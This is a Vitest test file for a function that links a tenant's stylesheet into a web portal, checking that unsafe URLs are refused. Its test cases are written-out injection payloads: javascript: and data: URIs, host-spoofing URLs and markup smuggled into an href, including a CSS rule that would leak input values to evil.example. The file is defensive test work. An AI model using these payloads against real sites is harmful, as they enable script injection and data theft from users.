// @vitest-environment jsdom
import { afterEach, describe, expect, it } from 'vitest';
import { linkTenantStyle } from './linkTenantStyle.ts';

const ASSETS = 'https://files.example/tenant';
const linked = () =>
  [...document.querySelectorAll('link, style, script')].map((each) => each.getAttribute('href'));

afterEach(() => document.head.replaceChildren());

describe("the tenant's stylesheet", () => {
  it('is linked from the origin of the tenant’s files and from the portal’s own', () => {
    linkTenantStyle('https://files.example/a.css', ASSETS);
    expect(linked()).toEqual(['https://files.example/a.css']);
    linkTenantStyle('/b.css', ASSETS);
    expect(linked()).toEqual([`${location.origin}/b.css`]);
  });

  it.each([
    'javascript:alert(1)',
    ' \tjava\nscript:alert(1)',
    'data:text/css,*{background:url(//evil.example)}',
    'data:text/html,<script>alert(1)</script>',
    'blob:https://files.example/1',
    'http://files.example/a.css',
    'https://evil.example/a.css',
    '//evil.example/a.css',
    '/\\evil.example/a.css',
    'https://files.example@evil.example/a.css',
    'https://files.example.evil.example/a.css',
    'https://files.example:8443/a.css',
    'https://',
  ])('W10 is refused at %j, and the one before is removed', (url) => {
    linkTenantStyle('/before.css', ASSETS);
    linkTenantStyle(url, ASSETS);
    expect(linked()).toEqual([]);
  });

  it('W10 is refused where the tenant’s files are not at an address of https', () => {
    for (const assets of ['http://files.example', 'javascript:alert(1)', 'data:,', '']) {
      linkTenantStyle('https://files.example/a.css', assets);
      expect(linked()).toEqual([]);
    }
  });

  it('W10 puts no rule of its address into the page', () => {
    linkTenantStyle('/a.css"><style>input[value^=a]{background:url(//evil.example/a)}</style>', ASSETS);
    expect(document.querySelectorAll('style')).toHaveLength(0);
    expect(linked()).toHaveLength(1);
  });
});
